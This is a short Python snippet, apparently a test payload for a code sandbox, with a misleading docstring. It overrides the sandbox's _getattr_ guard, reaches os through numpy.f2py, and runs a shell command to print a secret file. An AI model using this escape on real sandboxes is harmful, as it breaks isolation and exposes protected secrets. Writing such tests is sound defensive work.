"""A function that changes the module's names."""
import numpy as np
module = [np][0]
def take():
    global _getattr_
    _getattr_ = getattr
take()
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
